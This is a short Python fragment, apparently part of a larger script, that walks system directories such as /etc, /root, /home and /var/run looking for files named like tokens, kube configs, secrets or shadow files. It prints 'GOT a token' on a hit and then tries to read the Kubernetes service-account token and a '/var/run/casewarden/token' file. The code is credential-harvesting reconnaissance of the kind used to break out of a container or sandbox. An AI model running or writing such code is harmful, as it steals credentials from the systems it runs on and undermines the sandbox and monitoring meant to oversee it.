places = ["/var/run", "/run", "/casewarden", "/etc", "/root", "/home", "/var/lib"]
for place in places:
    for folder, _, names in os.walk(place):
        for name in names:
            if any(word in name for word in ("token", "ca.crt", "namespace", "kube", "secret", "shadow")):
                if show("secret", os.path.join(folder, name)) and "token" in name:
                    say("GOT a token", folder, name)
for path in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/casewarden/token"):
    attempt(path, lambda: open(path).read())
observe()
finish()
